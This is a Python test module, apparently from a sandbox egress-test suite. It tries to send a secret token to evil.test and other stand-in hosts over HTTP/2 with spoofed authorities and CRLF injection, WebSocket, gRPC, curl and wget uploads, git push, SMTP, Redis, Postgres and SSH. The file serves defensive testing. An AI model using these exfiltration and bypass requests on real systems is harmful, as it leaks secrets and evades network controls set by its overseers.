"""Ways out by other protocols: HTTP/2 and its streams, WebSocket, gRPC, mail, files, databases, shells."""

import base64
import os
import struct

from tests.boundary.wayout.attempt import Scene, attempt, get, reach, run, say, tls

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack("!I", len(body))[1:] + struct.pack("!BBI", kind, flags, stream) + body


def _text(value: str) -> bytes:
    raw = value.encode("latin-1")
    assert len(raw) < 127
    return bytes([len(raw)]) + raw


def _heads(stream: int, *pairs: tuple[str, str]) -> bytes:
    """Return a HEADERS frame that ends its stream: each field a literal, none in a table."""
    return _frame(1, 5, stream, b"".join(b"\0" + _text(name) + _text(value) for name, value in pairs))


def _ask(stream: int, authority: str, path: str, *more: tuple[str, str]) -> bytes:
    fields = ((":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path))
    return _heads(stream, *fields, *more)


def _h2(*frames: bytes, name: str = "h2.allowed.test") -> str:
    link = tls(reach(name, 443), name, ("h2",))
    return f"{link.selected_alpn_protocol()} " + say(
        link, _PREFACE + _frame(4, 0, 0, b"") + b"".join(frames), 3
    )


@attempt("HTTP/2 to a host that is not allowed")
def _(scene: Scene) -> object:
    return _h2(_ask(1, "h2.test", f"/{scene.token}"), name="h2.test")


@attempt("HTTP/2 for another host on the allowed one's connection")
def _(scene: Scene) -> object:
    return _h2(_ask(1, "evil.test", f"/{scene.token}"))


@attempt("HTTP/2 with a second stream for another host")
def _(scene: Scene) -> object:
    return _h2(_ask(1, "h2.allowed.test", "/ok"), _ask(3, "evil.test", f"/{scene.token}"))


@attempt("HTTP/2 with a host field for another host")
def _(scene: Scene) -> object:
    return _h2(_ask(1, "h2.allowed.test", f"/{scene.token}", ("host", "evil.test")))


@attempt("HTTP/2 with a host field instead of an authority")
def _(scene: Scene) -> object:
    fields = ((":method", "GET"), (":scheme", "https"), (":path", f"/{scene.token}"), ("host", "evil.test"))
    return _h2(_heads(1, *fields))


@attempt("HTTP/2 with user information")
def _(scene: Scene) -> object:
    return _h2(_ask(1, "h2.allowed.test@evil.test", f"/{scene.token}"))


@attempt("HTTP/2 CONNECT to another host")
def _(scene: Scene) -> object:
    return _h2(_heads(1, (":method", "CONNECT"), (":authority", "evil.test:443")))


@attempt("HTTP/2 with line ends inside of a field")
def _(scene: Scene) -> object:
    return _h2(_ask(1, "h2.allowed.test\r\nhost: evil.test", f"/{scene.token}"))


@attempt("HTTP/2 without TLS")
def _(scene: Scene) -> object:
    frames = _PREFACE + _frame(4, 0, 0, b"") + _ask(1, "evil.test", f"/{scene.token}")
    return say(reach("evil.test", 80), frames, 3)


@attempt("HTTP/2 without TLS to the allowed host for another")
def _(scene: Scene) -> object:
    frames = _PREFACE + _frame(4, 0, 0, b"") + _ask(1, "evil.test", f"/{scene.token}")
    return say(reach("allowed.test", 80), frames, 3)


@attempt("a gRPC call")
def _(scene: Scene) -> object:
    more = (("content-type", "application/grpc"), ("te", "trailers"))
    return _h2(_ask(1, "grpc.test", f"/demo.Echo/{scene.token}", *more), name="grpc.test")


def _websocket(host: str, scene: Scene) -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    return get(host, f"/{scene.token}", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
               f"Sec-WebSocket-Key: {key}")  # fmt: skip


@attempt("a WebSocket")
def _(scene: Scene) -> object:
    return say(reach("ws.test", 80), _websocket("ws.test", scene))


@attempt("a WebSocket over TLS")
def _(scene: Scene) -> object:
    return say(tls(reach("ws.test", 443), "ws.test"), _websocket("ws.test", scene))


@attempt("server-sent events")
def _(scene: Scene) -> object:
    return run(
        "curl",
        "-k",
        "-sS",
        "-m",
        "1",
        "-H",
        "Accept: text/event-stream",
        f"https://evil.test/sse?{scene.token}",
    )


@attempt("a large upload")
def _(scene: Scene) -> object:
    with open("upload", "wb") as file:
        file.write(scene.token.encode() * 100_000)
    return run("curl", "-k", "-sS", "-m", "4", "-T", "upload", "https://evil.test/up")


@attempt("an image link with a secret in its query")
def _(scene: Scene) -> object:
    return run(
        "wget", "-q", "-T", "2", "-t", "1", "-O", "/dev/null", f"http://evil.test/pixel.png?d={scene.token}"
    )


@attempt("a push to a repository")
def _(scene: Scene) -> object:
    script = (
        "rm -rf push && git init -q push && cd push && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x"
        " && GIT_TERMINAL_PROMPT=0 timeout 4 git -c http.sslVerify=false push -q https://git.test/demo.git HEAD:x"
    )
    return run("sh", "-c", script)


def _line(name: str, port: int, text: str, host: str = "evil.test") -> None:
    @attempt(name)
    def _(scene: Scene) -> object:
        return say(reach(host, port), text.replace("TOKEN", scene.token).encode() + b"\r\n", turns=2)


_line("mail", 25, "EHLO TOKEN")
_line("mail to the allowed host", 25, "EHLO TOKEN", "allowed.test")
_line("mail submission", 587, "EHLO TOKEN")
_line("a file transfer", 21, "USER TOKEN")
_line("a chat", 6667, "NICK TOKEN")
_line("redis", 6379, "SET k TOKEN")
_line("redis on the allowed host", 6379, "SET k TOKEN", "allowed.test")
_line("postgres", 5432, "\0\0\0\x08\x04\xd2\x16\x2f TOKEN")
_line("a browser's debugging port", 9222, "GET /json HTTP/1.1\r\nHost: localhost\r\n")
_line("a shell's greeting", 22, "SSH-2.0-TOKEN")
_line("a shell's greeting to the allowed host", 22, "SSH-2.0-TOKEN", "allowed.test")
_line("bytes of no protocol to the allowed host", 80, "\1\2\3TOKEN", "allowed.test")
_line("a shell's greeting on the web's port", 443, "SSH-2.0-TOKEN", "allowed.test")


@attempt("bytes of no protocol within TLS to the allowed host")
def _(scene: Scene) -> object:
    return say(
        tls(reach("allowed.test", 443), "allowed.test"), b"\1\2\3" + scene.token.encode() + b"\r\n\r\n"
    )


@attempt("mail over TLS")
def _(scene: Scene) -> object:
    return say(tls(reach("evil.test", 465), "evil.test"), b"EHLO " + scene.token.encode() + b"\r\n\r\n")


@attempt("a real ssh client")
def _(scene: Scene) -> object:
    return run("ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
               "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=2", f"{scene.token[:20]}@ssh.test", "true")  # fmt: skip
